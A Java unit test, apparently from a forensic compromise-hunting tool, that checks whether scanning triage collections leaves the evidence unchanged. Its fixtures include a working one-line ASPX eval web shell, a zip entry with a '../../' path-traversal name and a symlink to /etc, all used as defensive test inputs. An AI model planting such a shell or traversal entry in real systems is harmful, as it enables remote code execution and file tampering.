package org.exhunt.hunt;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.exhunt.core.Compromise;
import org.exhunt.core.ServerResult;
import org.exhunt.evidence.EvidenceFile;
import org.exhunt.evidence.EvidenceSource;
import org.exhunt.evidence.Sources;
import org.exhunt.evidence.TriageLayouts;
import org.exhunt.testkit.zip.CraftedZip;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 7: a scan changes nothing in the evidence: content, sizes and modification times of every file and
 * folder are the same before and after, for folders and zips, sound and hostile alike.
 */
class EvidenceUnchangedTest {

    private static final String SHELL = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"t\"],\"unsafe\");%>";

    @TempDir
    Path evidence;

    @Test
    void scanningEveryKindOfSourceLeavesTheTreeAsItWas() throws Exception {
        List<Path> inputs = new ArrayList<>();
        inputs.add(TriageLayouts.driveCopy(evidence.resolve("copy")));
        inputs.add(TriageLayouts.kapeFolder(evidence.resolve("kape")));
        inputs.add(TriageLayouts.velociraptorFolder(evidence.resolve("velociraptor")));
        inputs.add(TriageLayouts.kapeZip(evidence.resolve("kape.zip")));
        inputs.add(TriageLayouts.cylrZip(evidence.resolve("EX01.zip")));
        inputs.add(TriageLayouts.velociraptorZip(evidence.resolve("collection.zip")));
        CraftedZip hostile = new CraftedZip();
        hostile.add("C/inetpub/wwwroot/aspnet_client/errorEE.aspx", SHELL);
        hostile.add("../../escape.aspx", "slip");
        hostile.add("C/inetpub/nested.zip", new CraftedZip().bytes());
        inputs.add(Files.write(evidence.resolve("torn.zip"), hostile.truncatedBy(30)));
        Files.createSymbolicLink(evidence.resolve("copy/inetpub/outside"), Path.of("/etc"));
        String before = TreeSnapshot.of(evidence);

        Hunt hunt = Hunt.with(TestPacks.withKnowledgeBase(Map.of("VERSION", "test", "ioc/test-sha256.csv",
                "sha256,name,campaign,source\n" + HuntTest.sha256(SHELL) + ",test shell,TEST,here\n")), HuntOptions.defaults());
        for (Path input : inputs) {
            try (EvidenceSource source = Sources.open(input)) {
                ServerResult result = hunt.scan(input.getFileName().toString(), List.of(source));
                assertThat(result.verdicts()).anySatisfy(v -> assertThat(v.compromise()).isEqualTo(Compromise.COMPROMISED));
            }
            try (EvidenceSource source = Sources.open(input)) {
                source.walk(EvidenceUnchangedTest::readFully, problem -> {});
            }
        }

        assertThat(TreeSnapshot.of(evidence)).isEqualTo(before);
    }

    private static void readFully(EvidenceFile file) {
        try (InputStream in = file.open()) {
            in.transferTo(java.io.OutputStream.nullOutputStream());
        } catch (java.io.IOException e) {
            // damaged entries fail to read; what matters here is that nothing was written
        }
    }
}
